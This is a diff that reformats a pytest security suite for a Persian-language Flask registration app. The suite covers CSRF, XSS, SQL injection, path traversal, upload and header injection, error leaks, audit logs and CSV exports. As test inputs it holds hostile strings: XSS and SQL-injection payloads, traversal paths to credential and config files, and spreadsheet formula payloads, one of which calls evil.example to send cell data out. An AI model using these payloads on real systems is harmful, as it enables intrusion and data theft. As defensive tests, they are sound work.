@@ -4,6 +4,7 @@ security headers, error pages, spreadsheet formulas in exports, and what the log
 Checklist items 16, 19-26, 28-30, 32, 38 (see SECURITY.md); the rest of 21-25 is in
 test_registration.py, test_qualification_web.py and test_storage.py.
 """
+
 from __future__ import annotations
 
 import ast
@@ -25,8 +26,17 @@ from pathlib import Path
 import pytest
 
 import models
-from conftest import (JPEG_BYTES, MINIMAL_PDF, PASSWORD, csrf_token_from, documents_payload, login,
-                      png_bytes, registration_data, staff_client_for)
+from helpers import (
+    JPEG_BYTES,
+    MINIMAL_PDF,
+    PASSWORD,
+    csrf_token_from,
+    documents_payload,
+    login,
+    png_bytes,
+    registration_data,
+    staff_client_for,
+)
 from test_security_matrix import NOT_5XX, admin_views, all_cells, build_world, fingerprint
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -43,15 +53,23 @@ def files_under(root) -> list[str]:
 
 # ---------------------------------------------------------------------- 16: CSRF
 
+
 @pytest.fixture
 def csrf_app(app):
     from app import create_app
+
     return create_app(dict(app.config, WTF_CSRF_ENABLED=True))
 
 
-LOGIN_PATHS = {"officer": "/officer/login", "other_officer": "/officer/login", "distributor": "/distributor/login",
-               "other_distributor": "/distributor/login", "reviewer_a": "/admin/login",
-               "reviewer_b": "/admin/login", "directorate": "/admin/login"}
+LOGIN_PATHS = {
+    "officer": "/officer/login",
+    "other_officer": "/officer/login",
+    "distributor": "/distributor/login",
+    "other_distributor": "/distributor/login",
+    "reviewer_a": "/admin/login",
+    "reviewer_b": "/admin/login",
+    "directorate": "/admin/login",
+}
 
 
 def login_with_token(app, path, username, password=PASSWORD):
@@ -65,9 +83,15 @@ def login_with_token(app, path, username, password=PASSWORD):
 
 def usernames(world):
     o = world.objects
-    return {"officer": o["officer_a"].user_code, "other_officer": o["officer_q"].user_code,
-            "distributor": "pakhsh_one", "other_distributor": "pakhsh_two", "reviewer_a": "rev_tehran",
-            "reviewer_b": "rev_isfahan", "directorate": "director"}
+    return {
+        "officer": o["officer_a"].user_code,
+        "other_officer": o["officer_q"].user_code,
+        "distributor": "pakhsh_one",
+        "other_distributor": "pakhsh_two",
+        "reviewer_a": "rev_tehran",
+        "reviewer_b": "rev_isfahan",
+        "directorate": "director",
+    }
 
 
 def allowed_role(cell) -> str:
@@ -115,8 +139,9 @@ def test_a_token_from_another_session_is_refused_and_a_real_one_works(csrf_app, 
     attacker = login_with_token(csrf_app, "/admin/login", names["reviewer_b"])
     url = f"/admin/qualification/review/?id={world['qa']}"
     own_token = csrf_token_from(reviewer.get(url).get_data(as_text=True))
-    attacker_token = csrf_token_from(attacker.get("/admin/qualification/").get_data(as_text=True)) or \
-        csrf_token_from(attacker.get(f"/admin/qualification/review/?id={world['qisf']}").get_data(as_text=True))
+    attacker_token = csrf_token_from(attacker.get("/admin/qualification/").get_data(as_text=True)) or csrf_token_from(
+        attacker.get(f"/admin/qualification/review/?id={world['qisf']}").get_data(as_text=True)
+    )
     assert own_token and attacker_token and own_token != attacker_token
     data = {"decision": "deficiency", "note": "کارت ملی ناخواناست"}
     assert reviewer.post(url, data=dict(data, csrf_token=attacker_token)).status_code == 400
@@ -131,10 +156,18 @@ def test_a_token_from_another_session_is_refused_and_a_real_one_works(csrf_app, 
         html = director.get(f"/admin/{view}/new/").get_data(as_text=True)
         token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', html).group(1)
         form = {"name": "", "_add_another": "1"}
-        assert director.post(f"/admin/{view}/new/", content_type="multipart/form-data",
-                             data=dict(form, csrf_token=token)).status_code == 200, view
-        assert director.post(f"/admin/{view}/new/", content_type="multipart/form-data",
-                             data=dict(form, csrf_token="wapiti")).status_code == 400, view
+        assert (
+            director.post(
+                f"/admin/{view}/new/", content_type="multipart/form-data", data=dict(form, csrf_token=token)
+            ).status_code
+            == 200
+        ), view
+        assert (
+            director.post(
+                f"/admin/{view}/new/", content_type="multipart/form-data", data=dict(form, csrf_token="wapiti")
+            ).status_code
+            == 400
+        ), view
     # Logout and the language switch work with their token.
     officer = login_with_token(csrf_app, "/officer/login", names["officer"])
     token = csrf_token_from(officer.get("/officer/profile/edit").get_data(as_text=True))
@@ -152,8 +185,10 @@ ON_POSTGRES = os.environ.get("TEST_DATABASE_URL", "").startswith("postgres")
 def text_filters(view) -> list[int]:
     """Indexes of a view's filters on text columns (id filters are tested on their own)."""
     from peewee import CharField, TextField
-    return [i for i, f in enumerate(view._filters or [])
-            if isinstance(getattr(f, "column", None), (CharField, TextField))]
+
+    return [
+        i for i, f in enumerate(view._filters or []) if isinstance(getattr(f, "column", None), (CharField, TextField))
+    ]
 
 
 def assert_escaped(body: str, where: str):
@@ -168,10 +203,18 @@ def test_reflected_payloads_are_escaped(app, make_officer, make_staff, dbc):
     app.config["PROPAGATE_EXCEPTIONS"] = False
     anon, director, reviewer = (world.clients[r] for r in ("anonymous", "directorate", "reviewer_a"))
     from urllib.parse import quote
+
     p = quote(XSS)
-    public = [f"/verify?q={p}", f"/officer/login?next={p}", f"/distributor/login?next={p}",
-              f"/admin/login?next={p}", f"/officer/password/reset/confirm?username={p}", f"/no-such-page/{p}",
-              f"/officer/login?next=javascript:alert(1)", f"/admin/login?next=javascript:alert(1)"]
+    public = [
+        f"/verify?q={p}",
+        f"/officer/login?next={p}",
+        f"/distributor/login?next={p}",
+        f"/admin/login?next={p}",
+        f"/officer/password/reset/confirm?username={p}",
+        f"/no-such-page/{p}",
+        "/officer/login?next=javascript:alert(1)",
+        "/admin/login?next=javascript:alert(1)",
+    ]
     for url in public:
         response = anon.get(url)
         assert response.status_code < 500, url
@@ -181,10 +224,15 @@ def test_reflected_payloads_are_escaped(app, make_officer, make_staff, dbc):
         client = reviewer if view in ("qualification", "cooperation", "editrequest") else director
         text = text_filters(view_object)
         filters = f"flt0_{text[0]}={p}&flt1_{text[-1]}={p}&" if text else ""
-        for url in (f"/admin/{view}/?search={p}", f"/admin/{view}/?{filters}search={p}",
-                    f"/admin/{view}/?sort={p}&desc={p}&page={p}", f"/admin/{view}/new/?url={p}",
-                    f"/admin/{view}/details/?id={p}&url={p}", f"/admin/{view}/details/?id=1&url=javascript:alert(1)",
-                    f"/admin/{view}/edit/?id=1&url=javascript:alert(1)"):
+        for url in (
+            f"/admin/{view}/?search={p}",
+            f"/admin/{view}/?{filters}search={p}",
+            f"/admin/{view}/?sort={p}&desc={p}&page={p}",
+            f"/admin/{view}/new/?url={p}",
+            f"/admin/{view}/details/?id={p}&url={p}",
+            f"/admin/{view}/details/?id=1&url=javascript:alert(1)",
+            f"/admin/{view}/edit/?id=1&url=javascript:alert(1)",
+        ):
             response = client.get(url)
             assert response.status_code < 500, url
             assert_escaped(response.get_data(as_text=True), url)
@@ -200,8 +248,13 @@ def test_reflected_payloads_are_escaped(app, make_officer, make_staff, dbc):
 # ---------------------------------------------------------------------- 20: SQL injection
 
 INJECTIONS = ["' OR 1=1--", "%' UNION SELECT password_hash FROM officer--"]
-BAD_LIST_ARGS = ("sort=999&desc=abc", "sort=-1&page=abc", "sort=1%20OR%201=1&page=99999", "flt0_999=x&fltabc=x",
-                 "page_size=100000")
+BAD_LIST_ARGS = (
+    "sort=999&desc=abc",
+    "sort=-1&page=abc",
+    "sort=1%20OR%201=1&page=99999",
+    "flt0_999=x&fltabc=x",
+    "page_size=100000",
+)
 
 
 def test_sql_injection_in_search_sort_filters_and_pages(app, make_officer, make_staff, dbc):
@@ -209,6 +262,7 @@ def test_sql_injection_in_search_sort_filters_and_pages(app, make_officer, make_
     app.config["PROPAGATE_EXCEPTIONS"] = False
     director, reviewer_b = world.clients["directorate"], world.clients["reviewer_b"]
     from urllib.parse import quote
+
     b_ids = {str(world[k]) for k in ("qisf", "coop_p", "edit_p")}
     before = fingerprint()
     for view, view_object in admin_views(app).items():
@@ -227,7 +281,7 @@ def test_sql_injection_in_search_sort_filters_and_pages(app, make_officer, make_
                 body = response.get_data(as_text=True)
                 assert "$argon2id$" not in body, url
                 if shared:  # never a record of university A
-                    shown = set(re.findall(r'review/\?id=(\d+)', body))
+                    shown = set(re.findall(r"review/\?id=(\d+)", body))
                     assert shown <= b_ids, (url, shown)
         for query in BAD_LIST_ARGS:
             response = client.get(f"/admin/{view}/?{query}")
@@ -242,21 +296,26 @@ def test_sql_injection_in_search_sort_filters_and_pages(app, make_officer, make_
 def test_a_huge_or_negative_page_number_is_not_a_server_error(app, make_staff, dbc):
     director = staff_client_for(app, make_staff("directorate"))
     app.config["PROPAGATE_EXCEPTIONS"] = False
-    failures = [(view, page) for view in ("officer", "audit", "city") for page in ("99999999999999999999", "-5")
-                if director.get(f"/admin/{view}/?page={page}").status_code >= 500]
+    failures = [
+        (view, page)
+        for view in ("officer", "audit", "city")
+        for page in ("99999999999999999999", "-5")
+        if director.get(f"/admin/{view}/?page={page}").status_code >= 500
+    ]
     assert not failures, failures
 
 
 def test_a_non_numeric_value_in_an_id_filter_is_not_a_server_error(app, make_staff, dbc):
     from peewee import ForeignKeyField, IntegerField
+
     director = staff_client_for(app, make_staff("directorate"))
     app.config["PROPAGATE_EXCEPTIONS"] = False
     failures = []
     for name, view in admin_views(app).items():
         for index, flt in enumerate(view._filters or []):
-            if isinstance(getattr(flt, "column", None), (ForeignKeyField, IntegerField)):
-                if director.get(f"/admin/{name}/?flt0_{index}=abc").status_code >= 500:
-                    failures.append((name, index))
+            numeric = isinstance(getattr(flt, "column", None), (ForeignKeyField, IntegerField))
+            if numeric and director.get(f"/admin/{name}/?flt0_{index}=abc").status_code >= 500:
+                failures.append((name, index))
     assert not failures, failures
 
 
@@ -267,7 +326,9 @@ def test_nul_bytes_in_input_are_not_a_server_error(app, make_staff, dbc):
     statuses = {
         "verify": anonymous.get("/verify?q=0499%00370899").status_code,
         "officer login": anonymous.post("/officer/login", data={"username": "a\x00b", "password": "x" * 9}).status_code,
-        "distributor login": anonymous.post("/distributor/login", data={"username": "a\x00", "password": "x"}).status_code,
+        "distributor login": anonymous.post(
+            "/distributor/login", data={"username": "a\x00", "password": "x"}
+        ).status_code,
         "admin search": director.get("/admin/officer/?search=a%00b").status_code,
         "audit filter": director.get("/admin/audit/?flt0_0=%00").status_code,
     }
@@ -311,9 +372,15 @@ def formatted_sql_calls(root: Path) -> list[tuple[str, int, str]]:
             if name not in SQL_CALLS:
                 continue
             arg = node.args[0]
-            dynamic = isinstance(arg, ast.JoinedStr) and any(isinstance(v, ast.FormattedValue) for v in arg.values) \
-                or isinstance(arg, ast.BinOp) and isinstance(arg.op, (ast.Mod, ast.Add)) \
-                or isinstance(arg, ast.Call) and isinstance(arg.func, ast.Attribute) and arg.func.attr == "format"
+            dynamic = (
+                isinstance(arg, ast.JoinedStr)
+                and any(isinstance(v, ast.FormattedValue) for v in arg.values)
+                or isinstance(arg, ast.BinOp)
+                and isinstance(arg.op, (ast.Mod, ast.Add))
+                or isinstance(arg, ast.Call)
+                and isinstance(arg.func, ast.Attribute)
+                and arg.func.attr == "format"
+            )
             if dynamic:
                 found.append((rel, node.lineno, lines[node.lineno - 1].strip()))
     return found
@@ -322,9 +389,9 @@ def formatted_sql_calls(root: Path) -> list[tuple[str, int, str]]:
 # Reviewed: each builds SQL from values that never come from a request.
 REVIEWED_SQL = {
     # The export cursor: {sql} is peewee's own compiled SELECT, its values passed separately as params.
-    ("backoffice/export.py", 'DECLARE export_rows NO SCROLL CURSOR FOR {sql}'),
+    ("backoffice/export.py", "DECLARE export_rows NO SCROLL CURSOR FOR {sql}"),
     # {int(size)} is a constant of the module, forced to int.
-    ("backoffice/export.py", 'FETCH FORWARD {int(size)} FROM export_rows'),
+    ("backoffice/export.py", "FETCH FORWARD {int(size)} FROM export_rows"),
     # Server-side prepared statements: a generated name and peewee's own compiled SELECT;
     # the values go separately as params.
     ("models/prepared.py", "PREPARE {self._name} AS {server_sql}"),
@@ -341,21 +408,25 @@ REVIEWED_SQL = {
 
 def test_no_sql_is_built_by_string_formatting():
     found = formatted_sql_calls(ROOT)
-    unreviewed = [(f, n, line) for f, n, line in found
-                  if not any(f == rf and snippet in line for rf, snippet in REVIEWED_SQL)]
-    assert not unreviewed, "SQL built by formatting; use parameters or review it:\n" + \
-        "\n".join(f"{f}:{n}: {line}" for f, n, line in unreviewed)
+    unreviewed = [
+        (f, n, line) for f, n, line in found if not any(f == rf and snippet in line for rf, snippet in REVIEWED_SQL)
+    ]
+    assert not unreviewed, "SQL built by formatting; use parameters or review it:\n" + "\n".join(
+        f"{f}:{n}: {line}" for f, n, line in unreviewed
+    )
 
 
 def test_the_sql_scan_finds_what_it_should(tmp_path):
     (tmp_path / "bad.py").write_text(
-        'db.execute_sql(f"SELECT * FROM officer WHERE national_code = \'{code}\'")\n'
+        "db.execute_sql(f\"SELECT * FROM officer WHERE national_code = '{code}'\")\n"
         'SQL("name = \'%s\'" % name)\nModel.raw("x" + y)\nSQL("a {}".format(b))\n'
-        'db.execute_sql("SELECT 1 WHERE x = ?", (value,))\nSQL("1")\n')
+        'db.execute_sql("SELECT 1 WHERE x = ?", (value,))\nSQL("1")\n'
+    )
     assert [n for _f, n, _l in formatted_sql_calls(tmp_path)] == [1, 2, 3, 4]
 
 
 # ---------------------------------------------------------------------- 21: national codes
+
 
 def test_national_code_normalised_checked_and_unique(client, dbc):
     """Persian digits normalised, bad checksum refused, a duplicate after normalisation refused.
@@ -372,14 +443,19 @@ def test_national_code_normalised_checked_and_unique(client, dbc):
 
 # ---------------------------------------------------------------------- 22: body size
 
+
 def multipart(fields: dict, files: dict) -> tuple[bytes, str]:
     boundary = "----securitytestboundary"
     parts = []
     for name, value in fields.items():
         parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
     for name, (content, filename) in files.items():
-        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
-                     f'Content-Type: application/pdf\r\n\r\n'.encode() + content + b"\r\n")
+        parts.append(
+            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
+            f"Content-Type: application/pdf\r\n\r\n".encode()
+            + content
+            + b"\r\n"
+        )
     parts.append(f"--{boundary}--\r\n".encode())
     return b"".join(parts), f"multipart/form-data; boundary={boundary}"
 
@@ -400,8 +476,9 @@ def test_body_of_max_content_length_plus_one_is_413_with_nothing_left(app, offic
 
 def test_oversized_form_fields_are_413(app, client, dbc):
     # A multipart text field over MAX_FORM_MEMORY_SIZE (1 MB)...
-    response = client.post("/officer/register", content_type="multipart/form-data",
-                           data=registration_data(address="ا" * (600 * 1024)))
+    response = client.post(
+        "/officer/register", content_type="multipart/form-data", data=registration_data(address="ا" * (600 * 1024))
+    )
     assert response.status_code == 413
     # ...and a url-encoded body over MAX_CONTENT_LENGTH (Werkzeug applies only that one to it).
     app.config["MAX_CONTENT_LENGTH"] = 64 * 1024
@@ -433,25 +510,42 @@ def test_disguised_and_polyglot_uploads_are_refused_on_every_upload_route(app, m
     login(first, "/officer/login", officer.user_code)
     login(second, "/officer/login", qualified.user_code)
     for content, name in DISGUISED:
-        r1 = first.post("/officer/qualification/new", content_type="multipart/form-data",
-                        data={"action": "save", "doc_photo": (io.BytesIO(content), name)})
-        r2 = second.post("/officer/edit-requests/new", content_type="multipart/form-data",
-                         data={"action": "submit", "doc_degree": (io.BytesIO(content), name)})
+        r1 = first.post(
+            "/officer/qualification/new",
+            content_type="multipart/form-data",
+            data={"action": "save", "doc_photo": (io.BytesIO(content), name)},
+        )
+        r2 = second.post(
+            "/officer/edit-requests/new",
+            content_type="multipart/form-data",
+            data={"action": "submit", "doc_degree": (io.BytesIO(content), name)},
+        )
         assert (r1.status_code, r2.status_code) == (422, 422), name
     assert models.Document.select().count() == 0 and models.EditRequest.select().count() == 0
     assert files_under(app.config["UPLOAD_DIR"]) == []
     # The real thing, for contrast, is accepted.
-    r = first.post("/officer/qualification/new", content_type="multipart/form-data",
-                   data={"action": "save", "doc_photo": (io.BytesIO(JPEG_BYTES), "photo.jpg")})
+    r = first.post(
+        "/officer/qualification/new",
+        content_type="multipart/form-data",
+        data={"action": "save", "doc_photo": (io.BytesIO(JPEG_BYTES), "photo.jpg")},
+    )
     assert r.status_code == 302 and len(files_under(app.config["UPLOAD_DIR"])) == 1
 
 
 def test_path_names_are_only_labels_and_same_names_are_both_kept(app, officer_client, dbc, tmp_path):
     upload_dir = Path(app.config["UPLOAD_DIR"])
-    for name, kind in (("../../x.pdf", "degree"), ("..\\..\\x.pdf", "national_card"), ("/etc/passwd.pdf", "id_booklet"),
-                       ("مدرک.pdf", "other"), ("مدرک.pdf", "other")):
-        response = officer_client.post("/officer/qualification/new", content_type="multipart/form-data",
-                                       data={"action": "save", f"doc_{kind}": (io.BytesIO(MINIMAL_PDF), name)})
+    for name, kind in (
+        ("../../x.pdf", "degree"),
+        ("..\\..\\x.pdf", "national_card"),
+        ("/etc/passwd.pdf", "id_booklet"),
+        ("مدرک.pdf", "other"),
+        ("مدرک.pdf", "other"),
+    ):
+        response = officer_client.post(
+            "/officer/qualification/new",
+            content_type="multipart/form-data",
+            data={"action": "save", f"doc_{kind}": (io.BytesIO(MINIMAL_PDF), name)},
+        )
         assert response.status_code == 302
     documents = list(models.Document.select().order_by(models.Document.id))
     names = [d.display_name for d in documents]
@@ -468,9 +562,13 @@ def test_path_names_are_only_labels_and_same_names_are_both_kept(app, officer_cl
 
 # ---------------------------------------------------------------------- 25: download headers
 
+
 def test_download_headers(app, officer_client, make_staff, dbc):
-    officer_client.post("/officer/qualification/new", content_type="multipart/form-data",
-                        data={"action": "submit", **documents_payload()})
+    officer_client.post(
+        "/officer/qualification/new",
+        content_type="multipart/form-data",
+        data={"action": "submit", **documents_payload()},
+    )
     pdf = models.Document.get(models.Document.content_type == "application/pdf")
     jpeg = models.Document.get(models.Document.content_type == "image/jpeg")
     models.Document.update(display_name='a"\r\nX-Injected: 1 مدرک.pdf').where(models.Document.id == pdf.id).execute()
@@ -483,7 +581,9 @@ def test_download_headers(app, officer_client, make_staff, dbc):
     assert "\r" not in headers["Content-Disposition"] and "X-Injected" not in headers
     assert headers["X-Content-Type-Options"] == "nosniff"
     assert headers["Content-Type"] == "application/pdf"
-    assert "sandbox" in headers["Content-Security-Policy"] and "default-src 'none'" in headers["Content-Security-Policy"]
+    assert (
+        "sandbox" in headers["Content-Security-Policy"] and "default-src 'none'" in headers["Content-Security-Policy"]
+    )
     assert "no-store" in headers["Cache-Control"]
     # A row whose type is not one of the three accepted (a legacy import, a tampered row)
     # is served as a download of bytes, never as HTML.
@@ -506,12 +606,25 @@ def test_download_headers(app, officer_client, make_staff, dbc):
 
 # ---------------------------------------------------------------------- 26: path tricks
 
-TRAVERSALS = ["/files/..%2f..%2fapp.db", "/files/../../instance/app.db", "/static/..%2f..%2finstance/app.db",
-              "/static/..%2f..%2f..%2fapp.py", "/static/%2e%2e/%2e%2e/%2e%2e/app.py", "/static/../../app.py",
-              "/static/..\\..\\app.py", "/admin/static/..%2f..%2f..%2fapp.py", "/static//etc/passwd",
-              "/officer/documents/..%2f..", "/officer/documents/..%2f..%2finstance%2fapp.db",
-              "/officer/documents/1%2f..%2f..%2fapp.db", "/instance/app.db", "/instance/secret_key", "/.git/config",
-              "/app.py", "/.env"]
+TRAVERSALS = [
+    "/files/..%2f..%2fapp.db",
+    "/files/../../instance/app.db",
+    "/static/..%2f..%2finstance/app.db",
+    "/static/..%2f..%2f..%2fapp.py",
+    "/static/%2e%2e/%2e%2e/%2e%2e/app.py",
+    "/static/../../app.py",
+    "/static/..\\..\\app.py",
+    "/admin/static/..%2f..%2f..%2fapp.py",
+    "/static//etc/passwd",
+    "/officer/documents/..%2f..",
+    "/officer/documents/..%2f..%2finstance%2fapp.db",
+    "/officer/documents/1%2f..%2f..%2fapp.db",
+    "/instance/app.db",
+    "/instance/secret_key",
+    "/.git/config",
+    "/app.py",
+    "/.env",
+]
 
 
 def test_path_tricks_are_404(app, officer_client):
@@ -524,6 +637,7 @@ def test_path_tricks_are_404(app, officer_client):
 
 
 # ---------------------------------------------------------------------- 28: headers
+
 
 def assert_security_headers(response, where, authenticated=False):
     h = response.headers
@@ -543,18 +657,39 @@ def assert_security_headers(response, where, authenticated=False):
 def test_security_headers_everywhere(app, make_officer, make_staff, dbc):
     world = build_world(app, make_officer, make_staff)
     anon = world.clients["anonymous"]
-    for url in ("/", "/officer/login", "/officer/register", "/verify?q=1", "/admin/login", "/static/css/app.css",
-                "/no-such-page", f"/branch/{world['b1']}"):
+    for url in (
+        "/",
+        "/officer/login",
+        "/officer/register",
+        "/verify?q=1",
+        "/admin/login",
+        "/static/css/app.css",
+        "/no-such-page",
+        f"/branch/{world['b1']}",
+    ):
         assert_security_headers(anon.get(url), url)
     assert_security_headers(anon.post("/officer/logout"), "POST /officer/logout")
     assert_security_headers(anon.get("/officer/logout"), "405")
-    for role, urls in {"officer": ("/officer/", "/officer/profile", f"/officer/documents/{world['doc_qa']}",
-                                   "/static/css/app.css", "/no-such-page", f"/officer/qualification/{world['qisf']}"),
-                       "distributor": ("/distributor/", "/no-such-page"),
-                       "reviewer_a": ("/admin/", "/admin/qualification/", f"/admin/qualification/review/?id={world['qa']}",
-                                      "/admin/qualification/export/csv/", "/admin/officer/",
-                                      f"/admin/qualification/document/?doc={world['doc_qa']}"),
-                       "directorate": ("/admin/officer/", "/admin/audit/", "/admin/officer/export/csv/")}.items():
+    for role, urls in {
+        "officer": (
+            "/officer/",
+            "/officer/profile",
+            f"/officer/documents/{world['doc_qa']}",
+            "/static/css/app.css",
+            "/no-such-page",
+            f"/officer/qualification/{world['qisf']}",
+        ),
+        "distributor": ("/distributor/", "/no-such-page"),
+        "reviewer_a": (
+            "/admin/",
+            "/admin/qualification/",
+            f"/admin/qualification/review/?id={world['qa']}",
+            "/admin/qualification/export/csv/",
+            "/admin/officer/",
+            f"/admin/qualification/document/?doc={world['doc_qa']}",
+        ),
+        "directorate": ("/admin/officer/", "/admin/audit/", "/admin/officer/export/csv/"),
+    }.items():
         for url in urls:
             assert_security_headers(world.clients[role].get(url), f"{role} {url}", authenticated=True)
     # Flask-Admin's own static files too.
@@ -571,8 +706,10 @@ def test_registration_result_is_not_cached(client, dbc):
 
 # ---------------------------------------------------------------------- 29: error pages
 
+
 def test_an_exception_gives_a_generic_page_without_traceback_or_sql(app, dbc, caplog):
     from app import create_app
+
     fresh = create_app(dict(app.config, TESTING=False, PROPAGATE_EXCEPTIONS=None))
     assert fresh.debug is False and fresh.config["DEBUG"] is False
     assert fresh.config["PROPAGATE_EXCEPTIONS"] is None and not fresh.testing
@@ -591,8 +728,19 @@ def test_an_exception_gives_a_generic_page_without_traceback_or_sql(app, dbc, ca
             response = client.get(url)
         body = response.get_data(as_text=True)
         assert response.status_code == 500
-        for leak in ("Traceback", "secret-marker", "no_such_table", "SELECT", "password_hash", "File \"",
-                     "werkzeug", "peewee", "sqlite", "psycopg", "0499370899"):
+        for leak in (
+            "Traceback",
+            "secret-marker",
+            "no_such_table",
+            "SELECT",
+            "password_hash",
+            'File "',
+            "werkzeug",
+            "peewee",
+            "sqlite",
+            "psycopg",
+            "0499370899",
+        ):
             assert leak not in body, (url, leak)
         assert "<html" in body and 'role="alert"' in body
         assert_security_headers(response, url)
@@ -602,6 +750,7 @@ def test_an_exception_gives_a_generic_page_without_traceback_or_sql(app, dbc, ca
 
 def test_debug_is_off_in_production(app, monkeypatch):
     from app import create_app
+
     monkeypatch.setenv("APP_ENV", "production")
     monkeypatch.setenv("SECRET_KEY", "x" * 64)
     monkeypatch.delenv("FLASK_DEBUG", raising=False)
@@ -615,21 +764,27 @@ def test_debug_is_off_in_production(app, monkeypatch):
 
 # ---------------------------------------------------------------------- 30: audit and logs
 
+
 def test_audit_rows_for_login_failure_and_decision(app, make_officer, make_staff, dbc):
     officer = make_officer()
     client = app.test_client()
     login(client, "/officer/login", officer.user_code, "Wrong-pass-99")
     login(client, "/officer/login", officer.national_code)
     client.post("/officer/profile/edit", data={"address": "تهران، خیابان آزادی، کوچه دوم، پلاک ۷"})
-    client.post("/officer/qualification/new", data={"action": "submit", **documents_payload()},
-                content_type="multipart/form-data")
+    client.post(
+        "/officer/qualification/new",
+        data={"action": "submit", **documents_payload()},
+        content_type="multipart/form-data",
+    )
     request = models.QualificationRequest.get()
     reviewer_staff = make_staff("university")
     reviewer = staff_client_for(app, reviewer_staff)
     reviewer.post(f"/admin/qualification/review/?id={request.id}", data={"decision": "approve", "note": "تأیید"})
     audit = models.AuditLog
-    rows = {r.action: r for r in audit.select().where(audit.object_type.in_(("officer", "qualification")))
-            .order_by(audit.id)}
+    rows = {
+        r.action: r
+        for r in audit.select().where(audit.object_type.in_(("officer", "qualification"))).order_by(audit.id)
+    }
     for action in ("login_failed", "login", "profile_changed", "qualification_submit", "qualification_approve"):
         assert action in rows, (action, list(rows))
         row = rows[action]
@@ -638,8 +793,12 @@ def test_audit_rows_for_login_failure_and_decision(app, make_officer, make_staff
     assert rows["login_failed"].object_type == "officer" and rows["login_failed"].object_id == officer.id
     assert (rows["profile_changed"].actor_kind, rows["profile_changed"].actor_id) == ("officer", officer.id)
     approve = rows["qualification_approve"]
-    assert (approve.actor_kind, approve.actor_id, approve.object_type, approve.object_id) == \
-        ("staff", reviewer_staff.id, "qualification", request.id)
+    assert (approve.actor_kind, approve.actor_id, approve.object_type, approve.object_id) == (
+        "staff",
+        reviewer_staff.id,
+        "qualification",
+        request.id,
+    )
     # The directorate reads it in the back office.
     director = staff_client_for(app, make_staff("directorate"))
     assert "qualification_approve" in director.get("/admin/audit/").get_data(as_text=True)
@@ -651,8 +810,7 @@ def test_access_denials_are_audited(app, make_officer, make_staff, dbc):
     world.clients["reviewer_b"].get(f"/admin/qualification/review/?id={world['qa']}")  # 404: another university
     world.clients["reviewer_b"].get("/admin/officer/")  # 403: directorate only
     world.clients["officer"].get(f"/officer/documents/{world['doc_qq']}")  # 404: another officer's document
-    denials = list(models.AuditLog.select().where((models.AuditLog.id > 0)
-                                                  & models.AuditLog.action.contains("denied")))
+    denials = list(models.AuditLog.select().where((models.AuditLog.id > 0) & models.AuditLog.action.contains("denied")))
     assert models.AuditLog.select().count() >= before + 3
     assert len(denials) >= 3
     assert {d.actor_id for d in denials} >= {world["reviewer_b"], world["officer_a"]}
@@ -666,14 +824,21 @@ def test_no_password_or_national_code_in_logs_and_crlf_neutralised(app, make_off
     caplog.set_level(logging.DEBUG, logger=app.logger.name)
     secret_password = "Yek-Ramz-Kheili-Mahramaneh-77"
     client = app.test_client()
-    data = registration_data(national_code="0790419904", password=secret_password, password_confirm=secret_password,
-                             mobile="09351239876")
+    data = registration_data(
+        national_code="0790419904", password=secret_password, password_confirm=secret_password, mobile="09351239876"
+    )
     assert client.post("/officer/register", data=data).status_code == 200
     officer = models.Officer.get(models.Officer.national_code == "0790419904")
     login(client, "/officer/login", "0790419904", "Wrong-" + secret_password)
     login(client, "/officer/login", "0790419904", secret_password)
-    client.post("/officer/password", data={"current_password": secret_password, "new_password": secret_password + "x",
-                                           "new_password_confirm": secret_password + "x"})
+    client.post(
+        "/officer/password",
+        data={
+            "current_password": secret_password,
+            "new_password": secret_password + "x",
+            "new_password_confirm": secret_password + "x",
+        },
+    )
     app.test_client().post("/officer/password/reset", data={"username": "0790419904"})
     login(app.test_client(), "/admin/login", "0790419904", secret_password)
     # A name with CR/LF cannot forge an audit line.
@@ -690,13 +855,21 @@ def test_no_password_or_national_code_in_logs_and_crlf_neutralised(app, make_off
 
 # ---------------------------------------------------------------------- 32: exports
 
-DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"بزنید")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-             "+1+1", "\t=1+1", "\r=1+1", "\u200f=1+1", "\u200e+1"]
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"بزنید")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\u200f=1+1",
+    "\u200e+1",
+]
 
 
 def test_exports_are_formula_safe_with_bom_persian_and_no_secret_columns(app, make_officer, make_staff, dbc):
     officers = []
-    for i, value in enumerate(DANGEROUS):
+    for value in DANGEROUS:
         officer = make_officer()
         models.Officer.update(first_name=value, last_name="محمدی‌نژاد").where(models.Officer.id == officer.id).execute()
         officers.append(officer)
@@ -707,8 +880,13 @@ def test_exports_are_formula_safe_with_bom_persian_and_no_secret_columns(app, ma
     distributor = models.create_distributor("pakhsh", PASSWORD, "شرکت سلامت", "company", "09121110000")
     models.Distributor.update(name=DANGEROUS[1], manager_name=DANGEROUS[6]).execute()
     tehran = models.City.get(models.City.name == "تهران")
-    models.Branch.create(distributor=distributor, name=DANGEROUS[2], province=tehran.province, city=tehran,
-                         address="تهران، خیابان انقلاب، پلاک ۱")
+    models.Branch.create(
+        distributor=distributor,
+        name=DANGEROUS[2],
+        province=tehran.province,
+        city=tehran,
+        address="تهران، خیابان انقلاب، پلاک ۱",
+    )
     models.audit(actor, "test_action", detail=DANGEROUS[3])
 
     def rows(view):
@@ -734,8 +912,13 @@ def test_exports_are_formula_safe_with_bom_persian_and_no_secret_columns(app, ma
     assert not any("hash" in h.lower() or "گذرواژه" in h for h in header)
     for cell in exported:
         assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\u200f", "\u200e")), repr(cell)
-    for view, value in (("message", DANGEROUS[0]), ("distributor", DANGEROUS[1]), ("distributor", DANGEROUS[6]),
-                        ("branch", DANGEROUS[2]), ("audit", DANGEROUS[3])):
+    for view, value in (
+        ("message", DANGEROUS[0]),
+        ("distributor", DANGEROUS[1]),
+        ("distributor", DANGEROUS[6]),
